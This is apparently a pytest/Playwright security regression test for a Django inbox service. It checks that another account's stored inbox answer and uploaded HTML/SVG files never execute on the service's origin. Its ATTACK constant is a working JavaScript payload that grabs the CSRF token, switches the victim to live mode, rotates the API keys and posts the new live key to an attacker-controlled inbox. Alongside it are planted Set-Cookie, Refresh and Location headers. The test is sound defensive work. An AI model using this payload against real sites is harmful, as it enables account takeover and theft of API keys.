"""Content from customers never runs on the service's origin (SPEC §8 "Content"; issue 25 F2,
F3), in a real browser: the penetration test's attack, replayed.

A customer of account A, signed in to the portal, opens URLs that account B controls on the
same origin: B's inbox, whose stored script answers an HTML page (a row stored before the
allow-list: the API and the portal refuse it now) with `Set-Cookie`, `Refresh` and
`Location`, and B's uploaded HTML and SVG files. The page's script would switch A to the live
side, rotate A's API keys and post the new live key into B's other inbox. Nothing of it
runs: no title set, no request made, no key of A changed, A's session as it was.
"""

import re

import pytest
import requests
from django.contrib.sessions.backends.db import SessionStore
from playwright.sync_api import Error as PlaywrightError
from playwright.sync_api import expect

from inbox_app.models import CapturedRequest, Inbox
from inbox_app.services import inbox_create
from portal_app.links import portal_link_create
from tasks_app.accounts import account_create
from tasks_app.models import Profile

pytestmark = [pytest.mark.django_db(transaction=True), pytest.mark.browser]

ATTACK = """
document.title = "ran";
(async () => {
  const csrf = (document.cookie.match(/csrftoken=([^;]+)/) || [])[1];
  const form = (fields) => new URLSearchParams({csrfmiddlewaretoken: csrf, ...fields});
  await fetch("/portal/mode", {method: "POST", body: form({mode: "live", next: "/portal/"})});
  const page = await fetch("/portal/settings/rotate/api-keys", {method: "POST", body: form({confirm: "yes"})});
  const key = ((await page.text()).match(/live_[0-9a-f]{32}/) || ["no key"])[0];
  await fetch("COLLECT", {method: "POST", body: key});
  document.title = "done";
})();
"""


def shot(page, artifacts, name: str) -> None:
    page.screenshot(path=artifacts / f"user-content-{name}.png", full_page=True)


def upload(live_server, key: str, name: str, body: bytes, content_type: str) -> str:
    answer = requests.post(
        f"{live_server.url}/v1/files/upload",
        auth=(key, ""),
        files={"file": (name, body, content_type)},
        timeout=10,
    )
    assert answer.status_code == 200, answer.text
    return answer.json()["attachment_url"]


def key_hashes(profile: Profile) -> tuple[str, str]:
    profile.refresh_from_db()
    return profile.live_api_key_hash, profile.test_api_key_hash


def portal_side(session_key: str) -> str | None:
    return (SessionStore(session_key=session_key).load().get("portal") or {}).get("mode")


def test_another_accounts_inbox_answer_and_files_run_nothing_in_a_signed_in_browser(
    page, live_server, account, artifacts, settings
):
    settings.PUBLIC_BASE_URL = live_server.url
    # Given account B: an inbox that collects, and an inbox whose stored script is hostile
    attacker = account_create(email="attacker@example.com")
    collect = inbox_create(profile=attacker.profile, mode="live", name="collect")
    hostile = inbox_create(profile=attacker.profile, mode="live", name="hostile")
    script = ATTACK.replace("COLLECT", collect.url)
    Inbox.objects.filter(pk=hostile.pk).update(
        answer_body=f"<html><head><title>inbox</title></head><body><script>{script}</script></body></html>",
        answer_headers={
            "Content-Type": "text/html",
            "Set-Cookie": "planted=by-b; Path=/",
            "Refresh": f"3; url={collect.url}refreshed",
            "Location": f"{collect.url}redirected",
        },
    )
    html_url = upload(
        live_server, attacker.live_api_key, "page.html", f"<script>{script}</script>".encode(), "text/html"
    )
    svg_url = upload(
        live_server,
        attacker.live_api_key,
        "image.svg",
        f'<svg xmlns="http://www.w3.org/2000/svg"><script>{script}</script></svg>'.encode(),
        "image/svg+xml",
    )

    # And account A's owner, signed in to the portal (both sides), on the test side
    link = portal_link_create(user=account.user, account=account.profile, mode="live")
    page.goto(f"{live_server.url}{link.path}")
    page.click("#use-link")
    page.click("#side-switch button[name=mode][value=test]")
    expect(page.locator("#side")).to_have_text("TEST side")
    session_key = next(c["value"] for c in page.context.cookies() if c["name"] == "sessionid")
    assert portal_side(session_key) == "test"
    keys_before = key_hashes(account.profile)
    downloads = []
    page.on("download", lambda download: downloads.append(download))

    # When A opens B's inbox URL
    answer = page.goto(hostile.url)

    # Then it is shown as inert text: no cookie, no redirect, nothing run
    assert page.title() not in ("ran", "done")
    assert page.url == hostile.url
    headers = answer.headers
    assert headers["content-security-policy"] == "sandbox"
    assert headers["x-content-type-options"] == "nosniff"
    assert headers["content-type"].startswith("text/plain")
    assert not {"set-cookie", "location", "refresh"} & set(headers)
    expect(page.locator("body")).to_contain_text('document.title = "ran"')
    shot(page, artifacts, "01-inbox-answer-as-text")

    # When A opens B's uploaded HTML page and SVG image
    for url in (html_url, svg_url):
        try:
            page.goto(url)
        except PlaywrightError as exc:  # an attachment: the browser downloads it, the page stays
            assert "Download is starting" in str(exc)
        assert page.title() not in ("ran", "done")
    shot(page, artifacts, "02-after-the-files")

    # Then both were downloaded, not shown, and nothing of A changed
    assert sorted(d.suggested_filename for d in downloads) == ["image.svg", "page.html"]
    assert key_hashes(account.profile) == keys_before
    assert CapturedRequest.objects.filter(inbox=collect).count() == 0
    assert next(c["value"] for c in page.context.cookies() if c["name"] == "sessionid") == session_key
    assert "planted" not in {c["name"] for c in page.context.cookies()}
    assert portal_side(session_key) == "test"
    page.goto(f"{live_server.url}/portal/settings")
    expect(page.locator("#side")).to_have_text("TEST side")
    assert not re.search(r"live_[0-9a-f]{32}", page.content())
    shot(page, artifacts, "03-portal-unchanged")
